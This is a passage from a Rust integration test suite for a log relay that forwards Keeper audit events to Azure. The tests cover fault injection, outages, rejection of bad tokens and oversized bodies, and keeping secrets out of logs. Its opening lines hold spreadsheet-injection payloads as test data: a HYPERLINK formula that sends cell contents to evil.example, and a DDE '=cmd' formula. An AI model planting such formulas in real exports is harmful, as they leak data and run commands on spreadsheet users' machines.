                == "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
    // From the CSV export: quoted cells unquoted, nothing escaped or prefixed.
    assert_eq!(
        rows.iter()
            .filter(|row| row["username"] == "=cmd|' /C calc'!A0")
            .count(),
        2
    );
    let stats = emulator.stats();
    assert_eq!(stats.type_mismatches, 0, "{stats:?}");
    assert_eq!(stats.truncated_fields, 0, "{stats:?}");
}

// ---------------------------------------------------------------------------------------------
// Security
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_to_a_non_loopback_endpoint_is_refused_before_any_connection() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), "events.ndjson", 10, "push", 14).await;
    let endpoint = format!(
        "http://10.1.2.3/dataCollectionRules/{}/streams/Custom-KeeperAuditEvents?api-version=2023-01-01",
        emulator.config().dcr_id
    );

    let run = logrelay(
        &["send", "events.ndjson"],
        env_with(
            &emulator,
            &[
                ("LOGS_INGESTION_ENDPOINT", &endpoint),
                ("RUST_LOG", "debug"),
            ],
        ),
        dir.path(),
        Stdin::Null,
    )
    .await;

    run.assert_no_panic("send with an http endpoint");
    assert_eq!(run.code, 2, "a configuration error: {}", run.all_output());
    assert!(
        run.stderr.contains("LOGS_INGESTION_ENDPOINT") && run.stderr.contains("plain http://"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("10.1.2.3"), "{}", run.stderr);
    let stats = emulator.stats();
    assert_eq!(stats.token_requests, 0, "no token was even asked for");
    assert!(
        !run.stderr.contains("transport error") && !run.stderr.contains("connect"),
        "no connection attempted: {}",
        run.stderr
    );
    record(&Outcome {
        id: "60-security-plain-http",
        scenario: "Plain http:// to a non-loopback endpoint",
        path: "logrelay send",
        injected: "LOGS_INGESTION_ENDPOINT=http://10.1.2.3/…",
        events_in: 10,
        delivered: 0,
        dead_lettered: 0,
        duplicated: 0,
        lost: 0,
        notes: "refused at configuration time (exit 2, names the variable); no token request, no connection; the input is untouched, so nothing is lost".into(),
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_non_azure_endpoint_host_is_a_warning_not_an_error() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    // `.invalid` never resolves (RFC 2606); with empty input nothing is sent, so no lookup.
    let endpoint = format!(
        "https://logs.example.invalid/dataCollectionRules/{}/streams/Custom-KeeperAuditEvents?api-version=2023-01-01",
        emulator.config().dcr_id
    );

    let run = logrelay(
        &["send", "--json", "-"],
        env_with(&emulator, &[("LOGS_INGESTION_ENDPOINT", &endpoint)]),
        dir.path(),
        Stdin::Bytes(Vec::new()),
    )
    .await;

    run.assert_no_panic("send with a non-Azure host");
    assert_eq!(run.code, 0, "{}", run.all_output());
    assert!(
        run.stderr.contains("logs.example.invalid")
            && run.stderr.contains("is not a Logs Ingestion host"),
        "{}",
        run.stderr
    );
    assert_eq!(u64_of(&run.report()["events_in"]), 0);
    assert_eq!(emulator.stats().token_requests, 0);
}

/// The azure-handler process serving the shared HTTP routes (`/events`), killed on drop.
struct HttpFunction {
    child: Child,
    base: String,
    log: PathBuf,
    dead_letter: PathBuf,
    _dir: tempfile::TempDir,
}

impl HttpFunction {
    async fn start(env: Vec<(String, String)>) -> HttpFunction {
        let dir = tempfile::tempdir().expect("temp dir");
        let log = dir.path().join("handler.log");
        let dead_letter = dir.path().join("dead-letter");
        let port = common::free_port();
        let log_file = File::create(&log).expect("log file");
        let child = Command::new(common::debug_binary("azure-handler"))
            .env_clear()
            .envs(env)
            .env("FUNCTIONS_CUSTOMHANDLER_PORT", port.to_string())
            .env("FUNCTIONS_APP_ROOT_PATH", dir.path())
            .env("LOGRELAY_DEAD_LETTER", &dead_letter)
            .env("RUST_LOG", "debug")
            .stdin(Stdio::null())
            .stdout(Stdio::from(log_file.try_clone().expect("log file")))
            .stderr(Stdio::from(log_file))
            .spawn()
            .expect("azure-handler starts");
        let function = HttpFunction {
            child,
            base: format!("http://127.0.0.1:{port}"),
            log,
            dead_letter,
            _dir: dir,
        };
        let client = reqwest::Client::new();
        let started = Instant::now();
        while client
            .get(format!("{}/", function.base))
            .send()
            .await
            .is_err()
        {
            assert!(
                started.elapsed() < Duration::from_secs(15),
                "azure-handler not ready:\n{}",
                function.logs()
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        function
    }

    fn logs(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for HttpFunction {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// POSTs `total` bytes of body over a raw socket, with a Content-Length or chunked, and
/// `auth` as the Authorization header; returns the status. A raw socket because a server that
/// refuses early stops reading: reqwest then fails on the write and never reads the answer,
/// while the answer is there to read.
fn post_raw(base: &str, auth: Option<&str>, total: usize, chunked: bool) -> u16 {
    let address = base.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .expect("timeout");
    let auth = auth.map_or(String::new(), |value| format!("Authorization: {value}\r\n"));
    let framing = if chunked {
        "Transfer-Encoding: chunked".to_string()
    } else {
        format!("Content-Length: {total}")
    };
    let head = format!(
        "POST /events HTTP/1.1\r\nHost: {address}\r\n{auth}Content-Type: application/json\r\n{framing}\r\nConnection: close\r\n\r\n"
    );
    let _ = stream.write_all(head.as_bytes());
    let chunk = vec![b' '; 1 << 16];
    let mut sent = 0;
    while sent < total {
        let piece = if chunked {
            [
                format!("{:x}\r\n", chunk.len()).into_bytes(),
                chunk.clone(),
                b"\r\n".to_vec(),
            ]
            .concat()
        } else {
            chunk.clone()
        };
        // The server may answer and close before the whole body is sent.
        if stream.write_all(&piece).is_err() {
            break;
        }
        sent += chunk.len();
    }
    if chunked {
        let _ = stream.write_all(b"0\r\n\r\n");
    }
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer);
    text.split_whitespace()
        .nth(1)
        .and_then(|status| status.parse().ok())
        .unwrap_or_else(|| panic!("no HTTP status in {text:?}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_http_function_refuses_missing_and_wrong_tokens_and_oversized_bodies() {
    let config = EmulatorConfig::default();
    let client_secret = config.client_secret.clone();
    let emulator = Emulator::start(config).await.unwrap();
    let http_token = format!("lr-{}", uuid::Uuid::new_v4().simple());
    let mut env = emulator.env();
    env.push(("LOGRELAY_HTTP_TOKEN".into(), http_token.clone()));
    let function = HttpFunction::start(env).await;
    let url = format!("{}/events", function.base);
    let client = reqwest::Client::new();
    let good_body: String = (0..3).map(|i| keeper_line(i, json!({}))).collect();
    let post = |auth: Option<String>, body: Vec<u8>| {
        let mut request = client
            .post(&url)
            .header("Content-Type", "application/json")
            .body(body);
        if let Some(auth) = auth {
            request = request.header("Authorization", auth);
        }
        async move {
            let response = request.send().await.expect("an answer");
            let status = response.status().as_u16();
            (status, response.text().await.unwrap_or_default())
        }
    };

    let mut refusals = BTreeMap::new();
    for (what, auth) in [
        ("no Authorization header", None),
        ("wrong token", Some("Bearer not-the-token".to_string())),
        (
            "token with one character changed",
            Some(format!("Bearer {}x", &http_token[..http_token.len() - 1])),
        ),
        ("token as Basic", Some(format!("Basic {http_token}"))),
        ("empty bearer", Some("Bearer ".to_string())),
    ] {
        let (status, body) = post(auth, good_body.clone().into_bytes()).await;
        assert_eq!(status, 401, "{what}: {body}");
        assert!(
            !body.contains(&http_token),
            "{what}: the answer echoes the token"
        );
        refusals.insert(what, status);
    }
    // Without a token even a huge body is refused before it is read; with one, a body over
    // 6 MB is refused whether it declares its length or not.
    let base = function.base.clone();
    let bearer = format!("Bearer {http_token}");
    let raw = tokio::task::spawn_blocking(move || {
        [
            post_raw(&base, None, 7 << 20, false),
            post_raw(&base, Some(&bearer), 7 << 20, false),
            post_raw(&base, Some(&bearer), 7 << 20, true),
        ]
    })
    .await
    .unwrap();
    assert_eq!(
        raw,
        [401, 413, 413],
        "no token / declared 7 MiB / chunked 7 MiB"
    );
    assert!(emulator.rows().is_empty(), "nothing refused reached Azure");

    let (status, body) = post(
        Some(format!("Bearer {http_token}")),
        good_body.clone().into_bytes(),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        emulator.rows().len(),
        3,
        "only the authorized request landed"
    );

    let logs = function.logs();
    assert!(logs.contains("DEBUG"), "the handler ran at debug level");
    assert!(!logs.contains("panicked"), "{logs}");
    common::assert_no_secrets(
        &format!("{logs}\n{}", dead_letter_text(&function.dead_letter)),
        &[&client_secret, &http_token],
        "the HTTP function's logs",
    );
    record(&Outcome {
        id: "61-security-http-auth",
        scenario: "HTTP function: missing/wrong tokens, oversized bodies",
        path: "azure-handler /events (shared router)",
        injected: "5 kinds of bad Authorization (401), 7 MiB bodies with Content-Length and chunked (413)",
        events_in: 3,
        delivered: emulator.rows().len() as u64,
        dead_lettered: 0,
        duplicated: 0,
        lost: 0,
        notes: format!(
            "{} refusals answered 401, both oversized bodies 413, no refused byte reached the emulator; debug log free of the client secret, the HTTP token and JWTs",
            refusals.len() + 1
        ),
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_or_token_reaches_trace_logs_errors_or_dead_letters_under_faults() {
    let config = EmulatorConfig::default();
    let secret = config.client_secret.clone();
    let emulator = Emulator::start(config).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), "events.ndjson", 2_000, "push", 15).await;
    let trace = [
        ("RUST_LOG", "trace"),
        ("LOGRELAY_REQUEST_TIMEOUT_SECS", "1"),
    ];
    let mut outputs = Vec::new();

    // 401 (stale token refreshed), 503, a dropped connection, 429, a stall past the timeout,
    // short-lived tokens and a token endpoint that throttles first.
    emulator.set_faults(Faults {
        script: vec![401, 503, 0, 429],
        stall_rate: 0.2,
        stall_ms: 1_500,
        token_lifetime_secs: Some(4),
        token_script: vec![429],
        ..Faults::default()
    });
    let run = logrelay(
        &["send", "--dead-letter", "dl", "events.ndjson"],
        env_with(&emulator, &trace),
        dir.path(),
        Stdin::Null,
    )
    .await;
    assert_eq!(run.code, 0, "{}", tail(&run.all_output()));
    outputs.push(("send under faults at trace level", run.all_output()));

    // Every event refused (403): the dead letter holds them all.
    emulator.set_faults(Faults {
        forbidden: true,
        ..Faults::default()
    });
    let run = logrelay(
        &["send", "--dead-letter", "dl", "events.ndjson"],
        env_with(&emulator, &trace),
        dir.path(),
        Stdin::Null,
    )
    .await;
    assert_eq!(run.code, 1);
    outputs.push(("send refused with 403", run.all_output()));

    // Tokens revoked mid-life, then refused again after the refresh: 401 twice.
    emulator.set_faults(Faults {
        script: vec![401, 401],
        ..Faults::default()
    });
    let run = logrelay(
        &["send", "--dead-letter", "dl", "events.ndjson"],
        env_with(&emulator, &trace),
        dir.path(),
        Stdin::Null,
    )
    .await;
    outputs.push(("send with 401 twice", run.all_output()));

    // A wrong secret: Entra's error comes back; the secret must not.
    emulator.set_faults(Faults::none());
    let wrong = format!("{secret}-rotated");
    let run = logrelay(
        &["send", "--dead-letter", "dl", "events.ndjson"],
        env_with(
            &emulator,
            &[
                ("RUST_LOG", "trace"),
                ("AZURE_CLIENT_SECRET", wrong.as_str()),
            ],
        ),
        dir.path(),
        Stdin::Null,
    )
    .await;
    assert_ne!(run.code, 0);
    outputs.push(("send with a wrong secret", run.all_output()));
    let stats = emulator.stats();

    let dead = dead_letter_text(&dir.path().join("dl"));
    assert!(!dead.is_empty(), "the refused runs wrote dead letters");
    for (what, output) in &outputs {
        assert!(output.contains("TRACE"), "{what} ran at trace level");
        assert!(!output.contains("panicked"), "{what}: {}", tail(output));
        common::assert_no_secrets(output, &[&secret, &wrong], what);
    }
    common::assert_no_secrets(&dead, &[&secret, &wrong], "the dead letter");
    record(&Outcome {
        id: "62-security-secrets",
        scenario: "No secret or token in trace logs, errors or dead letters",
        path: "logrelay send",
        injected: "401 (twice), 403, 429, 503, dropped connection, stalls, 4 s tokens, throttled token endpoint, wrong client secret; RUST_LOG=trace",
        events_in: 0,
        delivered: 0,
        dead_lettered: 0,
        duplicated: 0,
        lost: 0,
        notes: format!(
            "{} runs and {} KB of dead letters searched for the client secret, the wrong secret and any JWT (`eyJ`) of the {} tokens issued: none found",
            outputs.len(),
            dead.len() / 1024,
            stats.tokens_issued
        ),
    });
}

// ---------------------------------------------------------------------------------------------
// The Lambda functions (cargo-lambda runtime API + moto)
// ---------------------------------------------------------------------------------------------

/// How many times a failed invocation is retried here, as the platform would (async invokes
/// retry twice; SQS redelivers until maxReceiveCount).
const PLATFORM_ATTEMPTS: usize = 4;

/// Dead-letter entries written by a function into the dead-letter bucket.
async fn s3_dead_letters(moto: &common::Moto) -> Vec<Value> {
    common::dead_letter_objects(moto)
        .await
        .iter()
        .flat_map(|(_, body)| {
            body.lines()
                .map(|line| {
                    serde_json::from_str::<Value>(line).expect("dead-letter lines are JSON")
                })
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Generates `events` gzipped NDJSON events, puts them at `key`; the expected EventIds.
async fn put_generated(
    moto: &common::Moto,
    dir: &Path,
    key: &str,
    events: u64,
    seed: u64,
) -> HashSet<String> {
    let file = format!("object-{seed}.ndjson.gz");
    let (count, seed_text) = (events.to_string(), seed.to_string());
    let run = logrelay(
        &[
            "generate", "--events", &count, "--shape", "push", "--seed", &seed_text, "--gzip",
            "--out", &file,
        ],
        Vec::new(),
        dir,
        Stdin::Null,
    )
    .await;
    assert_eq!(run.code, 0, "generate failed: {}", run.stderr);
    let path = dir.join(&file);
    let expected: HashSet<String> = expected_event_ids(&path).into_iter().collect();
    assert_eq!(expected.len() as u64, events, "distinct generated events");
    common::put(
        moto,
        key,
        std::fs::read(&path).expect("generated object"),
        None,
    )
    .await;
    expected
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_s3_forwarder_delivers_100000_events_through_the_fault_storm() {
    let dir = tempfile::tempdir().unwrap();
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let moto = common::start_moto(dir.path()).await;
    let mut env = common::function_env(&emulator, &moto).await;
    for (name, value) in [
        ("LOGRELAY_REQUEST_TIMEOUT_SECS", "2"),
        ("LOGRELAY_MAX_ATTEMPTS", "30"),
        ("LOGRELAY_DEADLINE_SECS", "300"),
    ] {
        env.push((name.into(), value.into()));
    }
    let key = "keeper/storm.ndjson.gz";
    let expected = put_generated(&moto, dir.path(), key, STORM_EVENTS, 16).await;
    let function = common::start_function("s3-forwarder", &env, dir.path()).await;
    emulator.set_faults(storm_faults(20_251_125));

    let notice = common::s3_notice(key);
    let mut invocations = Vec::new();
    for _ in 0..PLATFORM_ATTEMPTS {
        let (status, answer) = function
            .invoke_within(&notice, Duration::from_secs(600))
            .await;
        let failed = common::invocation_failed(status, &answer);
        invocations.push((status, answer));
        if !failed {
            break;
        }
    }

    let log = function.binary.output();
    let stats = emulator.stats();
    let table = table_counts(&emulator);
    let dead = dead_letter_event_ids(&s3_dead_letters(&moto).await);
    let lost = lost(&expected, &table, &dead);
    record(&Outcome {
        id: "11-s3-forwarder-fault-storm",
        scenario: "100,000 events from one S3 object under a fault storm",
        path: "s3-forwarder (cargo-lambda + moto)",
        injected: "same storm as the CLI: 30% 429/503, 5% drops, 15% 3 s stalls past a 2 s timeout, 8 s tokens, the same scripted start",
        events_in: STORM_EVENTS,
        delivered: table.len() as u64,
        dead_lettered: dead.len() as u64,
        duplicated: duplicated(&table),
        lost,
        notes: format!(
            "{} invocation(s); {} requests ({} answered 429, {} answered 503, {} dropped, {} stalled), {} tokens issued, {} expired-token uses, largest body {} B",
            invocations.len(),
            stats.ingestion_requests,
            stats.status_counts.get(&429).copied().unwrap_or(0),
            stats.status_counts.get(&503).copied().unwrap_or(0),
            stats.dropped_connections,
            stats.stalled_requests,
            stats.tokens_issued,
            stats.expired_token_uses,
            stats.max_wire_bytes
        ),
    });

    assert!(!log.contains("panicked"), "{}", tail(&log));
    assert_eq!(lost, 0);
    let (status, answer) = invocations.last().expect("invoked");
    assert!(
        !common::invocation_failed(*status, answer),
        "the last invocation succeeded: {answer}\n{}",
        tail(&log)
    );
    assert_eq!(
        table.len() as u64,
        STORM_EVENTS,
        "every EventId is in the table"
    );
    assert!(table.keys().all(|id| expected.contains(id)));
    assert_eq!(stats.expired_token_uses, 0);
    assert!(stats.max_wire_bytes <= SERVICE_MAX_BODY_BYTES);
    assert!(
        stats.injected_statuses > 0 && stats.dropped_connections > 0,
        "{stats:?}"
    );
    assert!(stats.tokens_issued > 1, "{stats:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn during_an_outage_the_lambda_functions_fail_so_the_platform_retries_and_nothing_is_lost() {
    let dir = tempfile::tempdir().unwrap();
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let moto = common::start_moto(dir.path()).await;
    let mut env = common::function_env(&emulator, &moto).await;
    env.push(("LOGRELAY_DEADLINE_SECS".into(), "3".into()));
    let direct = put_generated(
        &moto,
        dir.path(),
        "keeper/outage-direct.ndjson.gz",
        3_000,
        17,
    )
    .await;
    let mut queued = HashSet::new();
    let mut bodies = Vec::new();
    for n in 0..3 {
        let key = format!("keeper/outage-queued-{n}.ndjson.gz");
        queued.extend(put_generated(&moto, dir.path(), &key, 1_000, 18 + n).await);
        bodies.push(common::s3_notice(&key).to_string());
    }
    let s3 = common::start_function("s3-forwarder", &env, dir.path()).await;
    let sqs = common::start_function("sqs-forwarder", &env, dir.path()).await;
    let timeout = Duration::from_secs(120);
    emulator.set_faults(Faults::random_statuses(1.0, &[503], 1));

    // The outage: the S3 invocation fails; the SQS batch reports every message.
    let (status, answer) = s3
        .invoke_within(
            &common::s3_notice("keeper/outage-direct.ndjson.gz"),
            timeout,
        )
        .await;
    assert!(
        common::invocation_failed(status, &answer),
        "the s3-forwarder fails the invocation: {status} {answer}"
    );
    let (event, ids) = common::sqs_event(&moto, &bodies).await;
    let (status, answer) = sqs.invoke_within(&event, timeout).await;
    assert_eq!(status, 200, "{answer}\n{}", tail(&sqs.binary.output()));
    let failed: HashSet<&str> = answer["batchItemFailures"]
        .as_array()
        .unwrap_or_else(|| panic!("a partial batch response: {answer}"))
        .iter()
        .filter_map(|item| item["itemIdentifier"].as_str())
        .collect();
    assert_eq!(
        failed,
        ids.iter().map(String::as_str).collect::<HashSet<&str>>(),
        "every message is reported for redelivery: {answer}"
    );
    assert_eq!(ids.len(), 3);
    assert!(
        emulator.rows().is_empty(),
        "nothing delivered during the outage"
    );
    assert!(
        s3_dead_letters(&moto).await.is_empty(),
        "transient failures are retried by the platform, not dead-lettered"
    );
    let refused = emulator.stats().ingestion_requests;

    // The service is back: the platform's retries deliver everything.
    emulator.set_faults(Faults::none());
    let (status, answer) = s3
        .invoke_within(
            &common::s3_notice("keeper/outage-direct.ndjson.gz"),
            timeout,
        )
        .await;
    assert!(!common::invocation_failed(status, &answer), "{answer}");
    let (status, answer) = sqs.invoke_within(&event, timeout).await;
    assert_eq!(status, 200);
    assert_eq!(answer, json!({"batchItemFailures": []}));

    let table = table_counts(&emulator);
    let dead = dead_letter_event_ids(&s3_dead_letters(&moto).await);
    for (id, scenario, path, expected) in [
        (
            "31-s3-forwarder-outage",
            "Outage: S3 invocation fails, the platform retries",
            "s3-forwarder (cargo-lambda + moto)",
            &direct,
        ),
        (
            "32-sqs-forwarder-outage",
            "Outage: SQS batch reports every message, redelivered",
            "sqs-forwarder (cargo-lambda + moto)",
            &queued,
        ),
    ] {
        let mine: HashMap<String, u64> = table
            .iter()
            .filter(|(event, _)| expected.contains(*event))
            .map(|(event, count)| (event.clone(), *count))
            .collect();
        let lost = lost(expected, &mine, &dead);
        record(&Outcome {
            id,
            scenario,
            path,
            injected: "every ingestion request answered 503 for the first invocation (LOGRELAY_DEADLINE_SECS=3), then service restored and the invocation retried",
            events_in: expected.len() as u64,
            delivered: mine.len() as u64,
            dead_lettered: 0,
            duplicated: duplicated(&mine),
            lost,
            notes: format!(
                "{refused} requests refused during the outage; nothing delivered, dead-lettered or acknowledged until the retry; everything delivered once after it"
            ),
        });
        assert_eq!(lost, 0, "{id}");
        assert_eq!(mine.len(), expected.len(), "{id}");
        assert_eq!(
            duplicated(&mine),
            0,
            "{id}: the outage delivered nothing, so nothing twice"
        );
    }
    assert!(dead.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_http_lambda_refuses_bad_tokens_and_oversized_bodies_and_logs_no_secret() {
    let dir = tempfile::tempdir().unwrap();
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let client_secret = emulator.config().client_secret.clone();
    let moto = common::start_moto(dir.path()).await;
    let mut env = common::function_env(&emulator, &moto).await;
    let http_token = format!("lr-{}", uuid::Uuid::new_v4().simple());
    let stored = moto
        .secrets
        .create_secret()
        .name("logrelay-http-token")
        .secret_string(&http_token)
        .send()
        .await
        .unwrap();
    env.push((
        "LOGRELAY_HTTP_TOKEN_ARN".into(),
        stored.arn().unwrap().to_string(),
    ));
    env.push(("RUST_LOG".into(), "debug".into()));
    let function = common::start_function("http-forwarder", &env, dir.path()).await;
    // cargo-lambda turns plain HTTP requests into Function URL events (payload 2.0).
    let url = format!("http://127.0.0.1:{}/events", function.port);
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();
    let body: String = (0..5).map(|i| keeper_line(i, json!({}))).collect();

    for (what, auth) in [
        ("no Authorization header", None),
        ("wrong token", Some("Bearer not-the-token".to_string())),
        ("token as Basic", Some(format!("Basic {http_token}"))),
    ] {
        let mut request = client.post(&url).body(body.clone());
        if let Some(auth) = auth {
            request = request.header("Authorization", auth);
        }
        let response = request.send().await.expect("an answer");
        assert_eq!(response.status(), 401, "{what}");
    }
    let response = client
        .post(&url)
        .bearer_auth(&http_token)
        .body(vec![b' '; 7 << 20])
        .send()
        .await
        .expect("an answer");
    let oversized = response.status().as_u16();
    assert_eq!(oversized, 413, "{}", tail(&function.binary.output()));
    assert!(emulator.rows().is_empty(), "nothing refused reached Azure");
    let response = client
        .post(&url)
        .bearer_auth(&http_token)
        .body(body)
        .send()
        .await
        .expect("an answer");
    assert_eq!(response.status(), 200);
    assert_eq!(emulator.rows().len(), 5);

    let log = function.binary.output();
    assert!(log.contains("DEBUG"), "the function ran at debug level");
    assert!(!log.contains("panicked"), "{}", tail(&log));
    common::assert_no_secrets(
        &log,
        &[&client_secret, &http_token],
        "the HTTP Lambda's log",
    );
    record(&Outcome {
        id: "63-security-http-lambda",
        scenario: "HTTP Lambda: missing/wrong tokens, oversized body",
        path: "http-forwarder (cargo-lambda Function URL)",
        injected: "3 kinds of bad Authorization (401), a 7 MiB body (413); token from Secrets Manager; RUST_LOG=debug",
        events_in: 5,
        delivered: emulator.rows().len() as u64,
        dead_lettered: 0,
        duplicated: 0,
        lost: 0,
        notes: "refusals never reached the emulator; the debug log holds neither the client secret, the HTTP token nor a JWT".into(),
    });
}
